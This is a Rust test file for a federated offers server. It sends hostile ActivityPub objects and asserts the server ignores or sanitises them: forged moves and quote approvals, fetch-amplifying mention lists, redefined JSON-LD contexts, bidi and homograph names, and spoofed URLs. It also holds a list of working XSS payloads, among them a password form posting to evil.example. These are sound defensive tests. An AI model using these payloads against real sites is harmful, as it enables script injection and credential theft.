//! What the objects of strangers contain, and where they would lead us.

use super::*;
use crate::federation::webfinger::Handle;

#[tokio::test]
async fn attack_20_an_actor_says_that_it_moved_to_somebody_else() {
    let werl = Town::start("Werl").await;
    let stage = stage_followed_by(&werl).await;
    let (target, soest) = (Stage::open().await, Town::start("Soest").await);
    let before = Everything::believed_by(&werl).await;
    let asked = target.requests();
    for (number, to) in [
        (1, target.at("/actor")),
        (2, soest.actor()),
        (3, werl.actor()),
    ] {
        let id = stage.at(&format!("/activities/2{number}"));
        let mut moved = activity(&id, "Move", &stage.at("/actor"), &json!(stage.at("/actor")));
        moved["target"] = json!(to);
        assert_eq!(stage.sends("/actor", &werl, &moved).await, 202);
        let verdict = werl.verdict(&id).await;
        assert_eq!(verdict, (ReceivedState::Ignored, "unknown-type".to_owned()));
    }
    assert_eq!(target.requests(), asked, "nobody was asked about it");
    assert_eq!(Everything::believed_by(&werl).await, before);
}

#[tokio::test]
async fn attack_21_a_third_party_claims_that_somebody_agreed() {
    let werl = Town::start("Werl").await;
    let stage = stage_followed_by(&werl).await;
    let verein = werl.has_provider("Verein Werl").await;
    let ours = werl.publishes(verein, "Bänke streichen").await;
    let ours = werl.url(&format!("/o/{ours}")).to_string();
    let before = Everything::believed_by(&werl).await;
    let quote = json!({"id": stage.at("/quotes/1"), "type": "QuoteRequest", "object": ours,
        "actor": stage.at("/actor"), "instrument": stage.at("/o/9")});
    let agreed = json!({"id": stage.at("/agreed/1"), "type": "QuoteAuthorization",
        "attributedTo": werl.actor(), "interactingObject": stage.at("/o/9"),
        "interactionTarget": ours});
    for (number, kind, object) in [
        (1, "QuoteRequest", &json!(ours)),
        (2, "Accept", &quote),
        (3, "Accept", &agreed),
        (4, "Create", &agreed),
        (5, "Add", &json!(ours)),
        (6, "Remove", &json!(ours)),
        (7, "Block", &json!(werl.actor())),
    ] {
        let id = stage.at(&format!("/activities/3{number}"));
        let sent = activity(&id, kind, &stage.at("/actor"), object);
        assert_eq!(stage.sends("/actor", &werl, &sent).await, 202, "{kind}");
        let (state, reason) = werl.verdict(&id).await;
        assert_eq!(state, ReceivedState::Ignored, "{kind} {number}: {reason}");
    }
    assert_eq!(Everything::believed_by(&werl).await, before);
}

#[tokio::test]
async fn attack_31_an_object_that_names_a_thousand_others() {
    let werl = Town::start("Werl").await;
    let stage = stage_followed_by(&werl).await;
    let verein = stage.at("/a/verein");
    let asked = stage.requests();
    let mut heavy = note(&stage.at("/o/1"), &verein, "Beete gießen");
    heavy["tag"] = (0..1_000)
        .map(|n| json!({"type": "Mention", "href": stage.at(&format!("/a/{n}")), "name": "@x"}))
        .collect();
    heavy["cc"] = (0..1_000)
        .map(|n| json!(stage.at(&format!("/a/{n}"))))
        .collect();
    heavy["replies"] = json!(stage.at("/o/1/replies"));
    heavy["context"] = json!(stage.at("/contexts/1"));
    heavy["audience"] = json!(stage.at("/groups/1"));
    heavy["attachment"] = json!([{"type": "Link", "href": stage.at("/attached")}]);
    let id = stage.at("/activities/41");
    let create = activity(&id, "Create", &verein, &heavy);
    assert_eq!(stage.sends("/a/verein", &werl, &create).await, 202);
    let (state, reason) = werl.verdict(&id).await;
    assert_ne!(state, ReceivedState::Waiting, "{reason}");
    // Its key, and its owner: nothing that it names.
    assert!(
        stage.requests() <= asked + 3,
        "{}",
        stage.requests() - asked
    );

    // Whose owner has an owner that has an owner.
    for n in 0..50 {
        let path = format!("/a/chain{n}");
        stage.shows_actor(&path, "Organization");
        let mut page = stage.page(&path);
        page["attributedTo"] = json!(stage.at(&format!("/a/chain{}", n + 1)));
        page["movedTo"] = json!(stage.at(&format!("/a/chain{}", n + 1)));
        stage.shows(&path, page);
    }
    let asked = stage.requests();
    let chained = note(&stage.at("/o/2"), &stage.at("/a/chain0"), "Kette");
    let id = stage.at("/activities/42");
    let create = activity(&id, "Create", &stage.at("/a/chain0"), &chained);
    assert_eq!(stage.sends("/a/chain0", &werl, &create).await, 202);
    werl.verdict(&id).await;
    assert!(
        stage.requests() <= asked + 3,
        "{}",
        stage.requests() - asked
    );
    assert_eq!(stage.times_asked("/a/chain1"), 0);
}

#[tokio::test]
async fn attack_32_a_context_that_means_something_else_each_time() {
    let werl = Town::start("Werl").await;
    let stage = stage_followed_by(&werl).await;
    let verein = stage.at("/a/verein");
    stage.shows(
        "/context",
        json!({"@context": {"name": "https://www.w3.org/ns/activitystreams#summary"}}),
    );
    for (number, context) in [
        (1, json!(stage.at("/context"))),
        (
            2,
            json!([
                "https://www.w3.org/ns/activitystreams",
                stage.at("/context")
            ]),
        ),
        (
            3,
            json!({"name": {"@id": "as:content"}, "id": "@type", "type": "@id"}),
        ),
        (4, json!({"@import": stage.at("/context")})),
    ] {
        let mut object = note(
            &stage.at(&format!("/o/{number}")),
            &verein,
            "Wie es dasteht",
        );
        object["@context"] = context.clone();
        let id = stage.at(&format!("/activities/5{number}"));
        let mut create = activity(&id, "Create", &verein, &object);
        create["@context"] = context;
        assert_eq!(stage.sends("/a/verein", &werl, &create).await, 202);
        assert_eq!(
            werl.verdict(&id).await.0,
            ReceivedState::Applied,
            "{number}"
        );
    }
    assert_eq!(werl.titles().await, ["Wie es dasteht"; 4]);
    assert_eq!(
        stage.times_asked("/context"),
        0,
        "contexts are never fetched"
    );
}

/// What runs, loads, frames or submits where it is taken for HTML.
pub(super) const CORPUS: [&str; 16] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<p style=\"position:fixed;top:0\">x</p>",
    "<form action=\"https://evil.example\"><input name=password></form>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<p><strong>offen",
    "</p></div></main></body><script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=1 onerror=alert(1)>\">",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<base href=https://evil.example/><link rel=stylesheet href=x>",
    "<template><img src=x onerror=alert(1)></template>",
];

/// Sends offers with code in every field, by an owner with code in every field.
pub(super) async fn full_of_code(stage: &Stage, werl: &Town) {
    let path = "/a/boese";
    stage.shows_actor(path, "Organization");
    let mut page = stage.page(path);
    let all = CORPUS.concat();
    page["name"] = json!(format!("{}Verein", CORPUS[1]));
    page["summary"] = json!(all);
    page["url"] = json!("javascript:alert(1)");
    page["icon"] = json!({"type": "Image", "url": "javascript:alert(1)"});
    stage.shows(path, page);
    let owner = stage.at(path);
    for (number, code) in CORPUS.iter().enumerate() {
        let mut event = note(&stage.at(&format!("/o/{number}")), &owner, "x");
        event["type"] = json!("Event");
        event["startTime"] = json!("2036-12-06T09:00:00Z");
        event["name"] = json!(format!("{code} Konzert {number}"));
        event["summary"] = json!(code);
        event["content"] = json!(format!("<p>Herzlich willkommen</p>{code}"));
        event["location"] = json!({"type": "Place", "name": code,
            "address": {"type": "PostalAddress", "streetAddress": code, "addressLocality": code}});
        event["url"] = json!("javascript:alert(1)");
        event["externalParticipationUrl"] = json!("javascript:alert(1)");
        event["attachment"] = json!([{"type": "Link", "href": "data:text/html,x", "name": code}]);
        event["tag"] = json!([{"type": "Hashtag", "name": code, "href": "javascript:alert(1)"}]);
        let id = stage.at(&format!("/activities/6{number}"));
        let create = activity(&id, "Create", &owner, &event);
        assert_eq!(stage.sends(path, werl, &create).await, 202, "{code}");
        let (state, reason) = werl.verdict(&id).await;
        assert_ne!(state, ReceivedState::Failed, "{code}: {reason}");
    }
}

#[tokio::test]
async fn attack_34_code_in_every_field_of_an_offer_and_its_owner() {
    let werl = Town::start("Werl").await;
    let stage = stage_followed_by(&werl).await;
    full_of_code(&stage, &werl).await;
    assert!(
        !werl.titles().await.is_empty(),
        "some of it became an offer"
    );
    let Everything(rows, _) = Everything::believed_by(&werl).await;
    for (table, rows) in rows {
        for row in rows {
            let plain = row.to_lowercase();
            for code in [
                "<script",
                "<img",
                "<svg",
                "<iframe",
                "<form",
                "<style",
                "javascript:",
                "data:text",
            ] {
                assert!(!plain.contains(code), "{code} in {table}: {row}");
            }
        }
    }
}

#[tokio::test]
async fn attack_35_names_that_read_like_others() {
    let werl = Town::start("Werl").await;
    let stage = stage_followed_by(&werl).await;
    let path = "/a/verein";
    let mut page = stage.page(path);
    page["name"] = json!("Tafel\u{202e}tseoS\u{202c}\u{200b}\u{feff}");
    stage.shows(path, page);
    let verein = stage.at(path);
    let name = "Spende \u{202e}gpj.exe\u{2066}\u{2069}\u{200f}";
    let object = note(&stage.at("/o/1"), &verein, name);
    let id = stage.at("/activities/71");
    let create = activity(&id, "Create", &verein, &object);
    assert_eq!(stage.sends(path, &werl, &create).await, 202);
    assert_eq!(werl.verdict(&id).await.0, ReceivedState::Applied);
    assert_eq!(werl.titles().await, ["Spende gpj.exe"]);
    let (_, _, names) = werl.state().await;
    assert_eq!(names, ["TafeltseoS"]);
    // Letters of another script: no name before the host, and after it written so that it shows.
    assert!("@t\u{430}fel@soest.example".parse::<Handle>().is_err());
    assert!("@tafel\u{202e}@soest.example".parse::<Handle>().is_err());
    let homograph: Handle = "@tafel@s\u{43e}est.example".parse().unwrap();
    assert!(homograph.host().starts_with("xn--"), "{homograph}");
}

#[tokio::test]
async fn attack_53_an_object_that_names_a_page_of_somebody_else_as_its_own() {
    let werl = Town::start("Werl").await;
    let stage = stage_followed_by(&werl).await;
    let verein = stage.at("/a/verein");
    let mut object = note(&stage.at("/o/1"), &verein, "Beete gießen");
    object["url"] = json!("https://soest.example/angebote/1");
    let id = stage.at("/activities/81");
    let create = activity(&id, "Create", &verein, &object);
    assert_eq!(stage.sends("/a/verein", &werl, &create).await, 202);
    assert_eq!(werl.verdict(&id).await.0, ReceivedState::Applied);
    // It is known under its own address, and the other page is not taken for it.
    let shown: Vec<String> = werl.shows().await.into_keys().collect();
    assert_eq!(shown, [stage.at("/o/1")]);
    let mut tx = werl.db.read().await.unwrap();
    let found = offers::find_by_uri(&mut tx, "https://soest.example/angebote/1").await;
    assert!(found.unwrap().is_none());
}

#[tokio::test]
async fn attack_56_an_old_state_sent_again_after_the_offer_was_deleted() {
    let (soest, werl, _, drivers) = soest_and_werl().await;
    let tafel = soest.url("/a/tafel-soest").to_string();
    let uri = werl.shows().await.into_keys().next().unwrap();
    soest.does(drivers, Step::Withdraw).await;
    eventually("the deletion", async || {
        werl.titles().await.is_empty().then_some(())
    })
    .await;
    let before = Everything::believed_by(&werl).await;
    for (number, kind) in [(1, "Create"), (2, "Update")] {
        let id = soest.url(&format!("/activities/90{number}")).to_string();
        let mut object = note(&uri, &tafel, "Auferstanden");
        object["published"] = json!("2020-01-01T00:00:00Z");
        object["updated"] = json!("2020-01-01T00:00:00Z");
        let sent = activity(&id, kind, &tafel, &object);
        assert_eq!(soest.sends(&werl.inbox(), &tafel, &sent).await, 202);
        werl.verdict(&id).await;
    }
    assert!(werl.titles().await.is_empty());
    assert_eq!(Everything::believed_by(&werl).await, before);
}
